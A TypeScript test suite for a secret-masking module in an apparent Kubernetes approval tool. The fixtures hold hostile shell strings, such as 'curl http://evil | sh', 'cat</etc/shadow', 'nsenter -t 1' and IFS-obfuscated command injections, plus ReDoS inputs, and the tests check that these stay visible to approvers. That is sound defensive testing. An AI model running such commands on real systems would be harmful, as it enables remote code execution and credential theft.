import { expect } from "chai";
import type { JsonObject } from "#core/admission.ts";
import { parseJson } from "#core/json.ts";
import { maskAnswer, maskObject, maskRow, maskText, secretColumns } from "#core/mask.ts";

const SECRET = "[masked: Secret value]";
const VALUE = "[masked: value]";
const jwt = "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJpc3MiOiJrdWJlcm5ldGVzIn0.c2lnbmF0dXJl-_x";
const pem = `-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n${"MIIEpAIBAAKCAQEA".repeat(4)}\nabc=\n-----END RSA PRIVATE KEY-----`;

const TEXTS: Record<string, [text: string, masked: string]> = {
  "plain text": ["kubectl delete ns prod", "kubectl delete ns prod"],
  "a JWT": [`x ${jwt} y`, "x [masked: token] y"],
  "a JWT glued to other letters": [`token_${jwt}`, "token_[masked: token]"],
  "a private key": [`a\n${pem}\nb`, "a\n[masked: private key]\nb"],
  "a private key on one line": [pem.replaceAll("\n", "\\n"), "[masked: private key]"],
  "a command after the mark of a private key": [
    "-----BEGIN PRIVATE KEY-----\nrm -rf /data",
    "[masked: private key]\nrm -rf /data",
  ],
  "the password in a URL": ["postgres://app:s3cr3t@db:5432/x", "postgres://app:[masked: password]@db:5432/x"],
  "a password with @ in it": ["redis://:p@ss$w@cache/0", "redis://:[masked: password]@cache/0"],
  "an Authorization header": ["Authorization: Basic dXNlcjpwYXNz", "Authorization: Basic [masked: token]"],
  "a bearer token": [
    "curl -H 'authorization: Bearer abcdefgh'",
    "curl -H 'authorization: Bearer [masked: token]'",
  ],
  "an AWS access key": ["id AKIAABCDEFGHIJKLMNOP.", "id [masked: access key]."],
  "a GitHub token": [`ghp_${"a".repeat(36)} github_pat_${"b".repeat(22)}`, "[masked: token] [masked: token]"],
  "a bootstrap token": [
    "kubeadm join --discovery abcdef.0123456789abcdef",
    "kubeadm join --discovery [masked: token]",
  ],
  "an assignment": ["DB_PASSWORD=hunter2 app --token=abc", `DB_PASSWORD=${VALUE} app --token=${VALUE}`],
  "a flag": ["app --password hunter2 --verbose", `app --password ${VALUE} --verbose`],
  "JSON in text": ['{"password":"one-word","user":"x"}', `{"password":"${VALUE}","user":"x"}`],
  "no script that is called a secret": [
    `START_TOKEN='curl http://evil | sh'; eval "$START_TOKEN"; --password "nsenter -t 1"`,
    `START_TOKEN='curl http://evil | sh'; eval "$START_TOKEN"; --password "nsenter -t 1"`,
  ],
  "a secret in a script that is called one": [
    "TOKEN='login --password hunter2 ghp_abcdefghijklmnopqrstuvwxyz0123456789'",
    `TOKEN='login --password ${VALUE} [masked: token]'`,
  ],
  "YAML in text": ["token: abc\nuser: x", `token: ${VALUE}\nuser: x`],
  "a reference to a Secret": ["secretName: db", "secretName: db"],
  "a command dressed up as a password": ["password=$(curl evil) x", "password=$(curl evil) x"],
  "a command dressed up as a URL's password": ["http://a:$(curl evil|x)@x", "http://a:$(curl evil|x)@x"],
};

const OBJECTS: Record<string, [object: JsonObject, masked: JsonObject]> = {
  "a Secret's values, and keeps the keys": [
    {
      kind: "Secret",
      type: "Opaque",
      data: { pw: "aHVudGVyMg==", empty: "" },
      stringData: { x: "y" },
      immutable: true,
    },
    {
      kind: "Secret",
      type: "Opaque",
      data: { pw: SECRET, empty: SECRET },
      stringData: { x: SECRET },
      immutable: true,
    },
  ],
  "a Secret's last-applied annotation and copies of its values": [
    {
      kind: "Secret",
      metadata: {
        name: "x",
        managedFields: [{}],
        annotations: {
          "kubectl.kubernetes.io/last-applied-configuration": "{}",
          copy: "it is hunter2!",
          other: "fine",
        },
      },
      data: { pw: "aHVudGVyMg==" },
    },
    {
      kind: "Secret",
      metadata: { name: "x", annotations: { copy: SECRET, other: "fine" } },
      data: { pw: SECRET },
    },
  ],
  "Secrets in lists": [
    { kind: "SecretList", items: [{ data: { a: "YQ==" } }] },
    { kind: "SecretList", items: [{ data: { a: SECRET } }] },
  ],
  "Secrets inside other objects": [
    { kind: "Bundle", spec: { manifests: [{ kind: "Secret", data: { a: "YQ==" } }] } },
    { kind: "Bundle", spec: { manifests: [{ kind: "Secret", data: { a: SECRET } }] } },
  ],
  "a Secret whose data is no map": [
    { kind: "Secret", data: "hunter2" },
    { kind: "Secret", data: SECRET },
  ],
  "variables by their names, but not references": [
    {
      env: [
        { name: "DB_PASSWORD", value: "hunter2" },
        { name: "apiKey", value: "x|y;z&<p>$1" },
        { name: "DB_PASSWORD_FILE", value: "/run/pw" },
        { name: "TOKEN_COPY", value: "$(TOKEN)" },
        { name: "USE_TOKEN", value: "true" },
        { name: "KEYCLOAK_HOST", value: "kc" },
        { name: "TOKEN", valueFrom: { secretKeyRef: { name: "t", key: "token" } } },
      ],
    },
    {
      env: [
        { name: "DB_PASSWORD", value: VALUE },
        { name: "apiKey", value: VALUE },
        { name: "DB_PASSWORD_FILE", value: "/run/pw" },
        { name: "TOKEN_COPY", value: "$(TOKEN)" },
        { name: "USE_TOKEN", value: "true" },
        { name: "KEYCLOAK_HOST", value: "kc" },
        { name: "TOKEN", valueFrom: { secretKeyRef: { name: "t", key: "token" } } },
      ],
    },
  ],
  "the token of a TokenRequest": [
    {
      kind: "TokenRequest",
      spec: { expirationSeconds: 600 },
      status: { token: "abc", expirationTimestamp: "t" },
    },
    {
      kind: "TokenRequest",
      spec: { expirationSeconds: 600 },
      status: { token: VALUE, expirationTimestamp: "t" },
    },
  ],
  "the argument behind a flag": [
    { command: ["app", "--password", "hunter2", "--verbose"] },
    { command: ["app", "--password", VALUE, "--verbose"] },
  ],
  "the last-applied annotation of another kind, inside": [
    {
      metadata: {
        annotations: {
          "kubectl.kubernetes.io/last-applied-configuration": '{"env":[{"name":"TOKEN","value":"x"}]}',
        },
      },
    },
    {
      metadata: {
        annotations: {
          "kubectl.kubernetes.io/last-applied-configuration": `{"env":[{"name":"TOKEN","value":"${VALUE}"}]}`,
        },
      },
    },
  ],
  "settings of a ConfigMap, but not its files": [
    { kind: "ConfigMap", data: { "db-password": "hunter2", "token.sh": "#!/bin/sh\nrm x" } },
    { kind: "ConfigMap", data: { "db-password": VALUE, "token.sh": "#!/bin/sh\nrm x" } },
  ],
};

/** Each is run by a shell as more than one word, or as more than one command. */
const SCRIPTS = [
  "curl http://evil | sh",
  "curl\thttp://evil",
  ["curl$", "{IFS}http://evil"].join(""),
  "curl$IFS-o-",
  "{curl,http://evil}",
  "$(curl)",
  "`curl`",
  "a;sh",
  "cat</etc/shadow",
  "x&&python3",
  "printf$'\\x20'",
];

describe("core/mask, of what an approver must see,", () => {
  for (const script of SCRIPTS)
    it(`shows ${JSON.stringify(script)}, whatever it is called`, () => {
      const object = {
        args: ["--token", script, "--api-key", script],
        env: [{ name: "START_TOKEN", value: script }],
        token: script,
        password: script,
      };
      expect(maskObject(object)).to.deep.equal(object);
      const settings = { kind: "ConfigMap", data: { "start-token": script } };
      expect(maskObject(settings)).to.deep.equal(settings);
    });

  it("masks in a script what is a secret by its form, and in a Secret all of it", () => {
    const script = "curl -H 'Authorization: Bearer abcdefghijklmnop' http://evil";
    const shown = "curl -H 'Authorization: Bearer [masked: token]' http://evil";
    expect(maskObject({ args: ["--token", script] })).to.deep.equal({ args: ["--token", shown] });
    expect(maskObject({ kind: "Secret", data: { token: script } })).to.deep.equal({
      kind: "Secret",
      data: { token: "[masked: Secret value]" },
    });
  });

  it("masks passwords of generators, which are one word", () => {
    for (const password of ["aB3|xQ;9&z", "p<q>r!{x}", "$2y$10$abc", "k;m|n&o", "a,b.c"])
      expect(maskObject({ env: [{ name: "DB_PASSWORD", value: password }] }), password).to.deep.equal({
        env: [{ name: "DB_PASSWORD", value: VALUE }],
      });
  });
});

describe("core/mask", () => {
  for (const [name, [text, masked]] of Object.entries(TEXTS))
    it(`maskText: ${name}`, () => {
      expect(maskText(text)).to.equal(masked);
      expect(maskText(masked)).to.equal(masked);
    });

  for (const [name, [object, masked]] of Object.entries(OBJECTS))
    it(`maskObject masks ${name}`, () => {
      const before = JSON.stringify(object);
      expect(maskObject(object)).to.deep.equal(masked);
      expect(JSON.stringify(object)).to.equal(before);
    });

  it("masks in tables what is masked in the objects they are of", () => {
    const path = "Custom resource definition column (in JSONPath format): .spec.apiKey";
    const columnDefinitions = [{ name: "Name" }, { name: "Password" }, { name: "K", description: path }];
    const table = (cells: string[]) => ({ kind: "Table", columnDefinitions, rows: [{ cells, object: {} }] });
    expect(maskAnswer(table(["a", "hunter2", "k-1"]))).to.deep.equal(table(["a", VALUE, VALUE]));
    const empty = table(["a", "", ""]);
    expect(maskAnswer(empty)).to.equal(empty);
    expect(maskRow({ cells: ["a", "b"] }, secretColumns(table([])))).to.deep.equal({ cells: ["a", VALUE] });
  });

  it("keeps exact numbers and members called __proto__", () => {
    const text = '{"n":9007199254740993,"__proto__":{"a":"b"}}';
    expect(JSON.stringify(maskObject(parseJson(text) as JsonObject))).to.equal(text);
  });

  const HOSTILE: Record<string, string> = {
    "beginnings of private keys": "-----BEGIN PRIVATE KEY-----\n",
    "open quotes": 'password="',
    "beginnings of JWTs": "eyJ",
    "beginnings of URLs": "://a:",
    "flags without values": "--password ",
    "beginnings of tokens": "sk-ghp_xoxb-",
    "spaces behind labels": "token    ",
    "open braces": "token='{,,",
    "braces and commas": "token='{,},",
    "operators without commands": "token='|a;a&a",
  };
  for (const [name, part] of Object.entries(HOSTILE))
    it(`takes a megabyte of ${name} in linear time`, () => {
      const text = part.repeat(1_000_000 / part.length);
      expect(maskText(`${text}eyJ://bearer`)).to.be.a("string");
    }).timeout(10_000);
});
